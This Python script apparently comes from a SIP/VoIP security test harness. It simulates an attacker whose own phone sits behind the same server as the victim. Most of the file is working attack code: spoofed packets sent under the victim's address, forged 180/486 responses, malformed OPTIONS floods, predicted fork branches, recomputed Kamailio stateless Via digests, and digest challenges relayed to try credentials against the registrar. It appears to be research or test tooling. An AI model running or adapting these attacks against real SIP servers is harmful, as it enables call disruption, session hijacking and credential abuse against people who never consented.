#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only
"""An attacker who has a phone behind the same server: the phone chooses what the server relays.
All packets but the phone's own have somebody else's address. Prints how many were forged,
and how many of its tags, nonces and branches the server took."""

import argparse
import hashlib
import os
import socket
import time

import sip
from forge import BAD_CSEQ, Forger

SERVER = os.environ["SERVER"]


class Phone:
    """The attacker's own phone, or the phone of whoever runs it."""

    def __init__(self, address, port, users, others=()):
        self.own = (address, port)
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind(self.own)
        self.sock.settimeout(0.7)
        for user in users:
            contacts = [f"<sip:{user}@{a}:{p}>" for a, p in (self.own, *others)]
            self.send(sip.request("REGISTER", user, SERVER, self.own,
                                  contact=", ".join(contacts)))
            if b" 200 " not in self.wait(b"SIP/2.0"):
                raise SystemExit(f"{user} cannot register")

    def send(self, text):
        self.sock.sendto(text, (SERVER, 5060))

    def wait(self, start):
        """The next message that begins so; empty when none comes."""
        end = time.monotonic() + 1
        while time.monotonic() < end:
            try:
                text = self.sock.recv(65536)
            except TimeoutError:
                break
            if text.startswith(start):
                return text
        return b""

    def answer_calls(self, forger, calls, status, reason, headers="", to_user="evil"):
        """Spoofed calls to this phone, which answers each with a tag of its own choice."""
        for call_id, to_tag in calls:
            forger.request("INVITE", "evil", call_id=call_id, to_user=to_user)
            text = self.wait(b"INVITE")
            if text:
                forger.learned += 1
                self.send(sip.answer(text, status, reason, to_tag=to_tag, headers=headers))
            time.sleep(0.05)


def pairs(count):
    return [(sip.token(), sip.token()) for _ in range(count)]


def malformed(forger, call_id, to_tag):
    for _ in range(35):
        forger.request("OPTIONS", "call", call_id=call_id, to_tag=to_tag, cseq=BAD_CSEQ)


def tag(forger, options):
    calls = pairs(8)
    phone = Phone(options.own, 5080, ["evil"])
    phone.answer_calls(forger, calls, 486, "Busy Here")
    malformed(forger, *calls[-1])


def ringing(forger, options):
    calls = pairs(8)
    phone = Phone(options.own, 5080, ["evil"])
    phone.answer_calls(forger, calls, 180, "Ringing")
    malformed(forger, *calls[-1])


def nobody(forger, options):
    phone = Phone(options.own, 5080, ["evil"])
    phone.answer_calls(forger, pairs(6), 486, "Busy Here")
    for number, call in enumerate(pairs(30)):
        phone.answer_calls(forger, [call], 404, "Not Found", to_user=f"nobody{number}")
        forger.request("ACK", "evil", call_id=call[0], to_tag=call[1], cseq="1 ACK")


def challenge(forger, options):
    """Its challenge is relayed; the credentials that the attacker sends then are for the
    registrar."""
    nonce = sip.token(128)
    phone = Phone(options.own, 5080, ["evil"])
    phone.answer_calls(forger, pairs(1), options.status, "Unauthorized",
                       f'{"Proxy" if options.status == 407 else "WWW"}-Authenticate: Digest '
                       f'realm="lab", nonce="{nonce}"\r\n')
    for _ in range(20):
        forger.request("REGISTER", "100", login=sip.credentials(nonce))
        time.sleep(0.02)


def fork(forger, options):
    """Two contacts of one user: the attacker's phone, and the victim. The branches differ in their
    last digits, which count."""
    phone = Phone(options.own, 5080, ["evil"], [forger.victim])
    phone.send(sip.request("INVITE", "evil", SERVER, phone.own))
    branch = sip.branch(phone.wait(b"INVITE"))
    forger.learned += bool(branch)
    stem = branch.rpartition(".")[0]
    for number in range(4):
        if f"{stem}.{number}" != branch:
            respond(forger, f"{stem}.{number}")


def kamailio_digest(text):
    """Kamailio's char_msg_val() of an INVITE: From-tag, Call-ID, URI, CSeq, the Via on top."""
    via = sip.header(text, "Via").split()[1].partition(";")[0].rpartition(":")
    parts = [sip.header(text, "From").partition("tag=")[2], sip.header(text, "Call-ID"),
             text.split()[1].decode(), sip.header(text, "CSeq").split()[0], via[0], via[2],
             sip.branch(text)]
    return hashlib.md5("".join(parts).encode()).hexdigest()


def stateless(forger, _options):
    """What a server without transactions writes into Via is a digest of the request, without a
    secret. The rest, a hash of Call-ID and CSeq, the attacker reads at a phone of his own."""
    phone = Phone(forger.options.own, 5080, ["stateless-evil"])
    call_id = sip.token()
    calls = [sip.request("INVITE", user, SERVER, phone.own, call_id=call_id)
             for user in ("stateless-evil", "stateless-bob")]
    phone.send(calls[0])
    seen = sip.branch(phone.wait(b"INVITE"))
    head, digest, tail = seen.split(".")
    forger.learned += digest == kamailio_digest(calls[0])
    phone.send(calls[1])
    time.sleep(0.2)
    respond(forger, f"{head}.{kamailio_digest(calls[1])}.{tail}")


def respond(forger, branch):
    """Answers of the victim that it never gave, to a request with this branch."""
    for status in ("180 Ringing", "486 Busy Here"):
        forger.send((f"SIP/2.0 {status}\r\nVia: SIP/2.0/UDP {SERVER};branch={branch}\r\n"
                     f"From: <sip:a@{SERVER}>;tag={sip.token()}\r\n"
                     f"To: <sip:b@{SERVER}>;tag={sip.token()}\r\n"
                     f"Call-ID: {sip.token()}\r\nCSeq: 1 INVITE\r\n"
                     "Content-Length: 0\r\n\r\n").encode())


def from_tag(forger, options):
    """A call to the victim: its From-tag and Call-ID are the attacker's, and the server relays
    them."""
    call_id, tag_sent = sip.token(), sip.token()
    phone = Phone(options.own, 5080, ["evil"])
    forger.believe_tags()
    phone.send(sip.request("INVITE", "bob", SERVER, phone.own, call_id=call_id,
                           from_tag=tag_sent))
    time.sleep(0.3)
    forger.learned += 1
    malformed(forger, call_id, tag_sent)


def register(forger, options):
    """The victim registers, as an honest phone."""
    Phone(*forger.victim, options.users.split(","))


COMMANDS = {"tag": tag, "ringing": ringing, "nobody": nobody, "challenge": challenge, "fork": fork,
            "stateless": stateless, "from-tag": from_tag, "register": register}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--own")
    parser.add_argument("--victim", required=True)
    parser.add_argument("--sport", type=int, default=5060)
    parser.add_argument("--ttl", type=int, default=64)
    parser.add_argument("--status", type=int, default=407)
    parser.add_argument("--users", default="bob,stateless-bob")
    parser.add_argument("command", choices=COMMANDS)
    options = parser.parse_args()
    forger = Forger(options)
    COMMANDS[options.command](forger, options)
    print(forger.sent, forger.learned)


if __name__ == "__main__":
    main()
